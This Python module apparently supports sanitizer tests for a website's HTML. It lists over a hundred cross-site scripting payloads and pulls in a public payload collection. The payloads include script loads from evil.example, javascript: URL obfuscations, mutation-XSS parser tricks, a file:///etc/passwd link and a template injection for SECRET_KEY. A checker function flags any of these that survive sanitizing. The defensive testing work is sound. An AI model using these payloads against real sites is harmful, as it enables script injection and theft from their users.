"""Everything that was ever tried to get script into a page, and how to see whether any of it is left."""

import re
from functools import lru_cache
from urllib.parse import urlsplit

import brs_kb
from tinyhtml5.parser import HTMLParser

HTML = "{http://www.w3.org/1999/xhtml}"
AROUND = {"html", "head", "body"}

SPANS = {"colspan", "rowspan"}
ALLOWED = {
    **dict.fromkeys("p br h2 h3 h4 ul ol li strong em blockquote hr sub sup figure figcaption".split(), frozenset()),
    **dict.fromkeys("table caption thead tbody tr".split(), frozenset()),
    "a": {"href", "rel", "class"},
    "abbr": {"title"},
    "th": {"scope", *SPANS},
    "td": SPANS,
    "img": {"src", "alt", "width", "height"},
    "span": {"class"},  # for screen readers, at the end of links to elsewhere
}
OUR_CLASSES = {"external", "visually-hidden"}
SCHEMES = {"", "http", "https", "mailto", "tel"}

CLASSIC = [
    # script and everything that loads or runs something
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example>",
    "<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="/dateien/x.jpg" onload=alert(1)>',
    '<img src="/dateien/../../mein-buero/abmelden/">',
    '<img src="/dateien/x.jpg?a=1" alt="x">',
    '<img src="//evil.example/dateien/x.jpg">',
    '<img src="/dateien//evil.example/x.jpg">',
    "<img src=/dateien/x.jpg alt='\"onerror=alert(1) '>",
    "<img srcset='https://evil.example/x 2x' src=/dateien/x.jpg>",
    "<body onload=alert(1)>text",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form id=x></form><button form=x formaction=//evil.example>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)>x</slot>",
    "<portal src=//evil.example></portal>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    # styles
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;inset:0' class='notice' id='main'>x</p>",
    "<table background=javascript:alert(1)><tr><td background='javascript:alert(1)'>x</table>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\r\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert&lpar;1&rpar;'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='\ufeffjavascript:alert(1)'>x</a>",
    "<a href='javascript&#x200b;:alert(1)'>x</a>",
    "<a href='javascript://example.org/%0aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://example.org/x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https://www.bund.de@evil.example'>x</a>",
    "<a href='http://[::1'>x</a>",
    "<a href='x' target=_blank onclick=alert(1) ping=//evil.example download>x</a>",
    "<a href='https://example.org/\"onmouseover=alert(1)//'>x</a>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<q cite=javascript:alert(1)>x</q>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    # text that becomes markup when it is read for the second time
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<table><td><math><mi><table><mglyph><style><img src=x onerror=alert(1)>",
    "<p><style><!--</style><img src=x onerror=alert(1)>--></p>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--- --!><img src=x onerror=alert(1)> -->",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE x [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufefe<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "<x/onpointerrawupdate=alert(1) style=display:block>x",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
    "<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>",
    # marks
    "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://example.org/'onclick='alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    'https://example.org/"onmouseover="alert(1)',
    "www.example.org'><script>alert(1)</script>",
    # templates
    "{{ settings.SECRET_KEY }}{% debug %}",
]


@lru_cache(maxsize=1)
def attacks() -> list[str]:
    """Each once: those above, then the public collection in its own order."""
    public = brs_kb.get_all_payloads()
    return list(dict.fromkeys([*CLASSIC, *(public[name]["payload"] for name in sorted(public))]))


def harmless(html: str) -> list[str]:
    """What in the markup could act, read as a browser reads it. An empty list: nothing."""
    root = HTMLParser().parse(f"<!DOCTYPE html><html><head></head><body>{html}</body></html>")
    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            problems.append(f"a comment: {element.text!r}")
            continue
        name = element.tag.removeprefix(HTML)
        if name in ALLOWED:
            problems += _attribute_problems(name, dict(element.items()))
        elif name not in AROUND or element.items():
            problems.append(f"<{name}> with {dict(element.items())}")
    return problems


def _attribute_problems(name: str, attributes: dict[str, str]) -> list[str]:
    problems = [f"{key} on <{name}>" for key in attributes if key not in ALLOWED[name]]
    if set(attributes.get("class", "").split()) - OUR_CLASSES:
        problems.append(f"a class of others: {attributes['class']!r}")
    if name == "a" and not _leads_somewhere(attributes.get("href", "")):
        problems.append(f"a link to {attributes.get('href')!r}")
    if name == "img" and not re.fullmatch(r"/dateien/[\w/-][\w./-]*", attributes.get("src", ""), re.ASCII):
        problems.append(f"a picture from {attributes.get('src')!r}")
    if name == "img" and ("//" in attributes.get("src", "") or "/." in attributes.get("src", "")):
        problems.append(f"a picture from {attributes.get('src')!r}")
    return problems


def _leads_somewhere(url: str) -> bool:
    """A page of our own, or another one with a scheme that only leads there."""
    if re.search(r"[\x00-\x20\x7f\\]", url) or url.startswith("//"):
        return False
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    if parts.scheme in {"http", "https"}:
        return bool(parts.hostname) and "@" not in parts.netloc
    return parts.scheme in SCHEMES and (bool(parts.scheme) or url.startswith("/"))
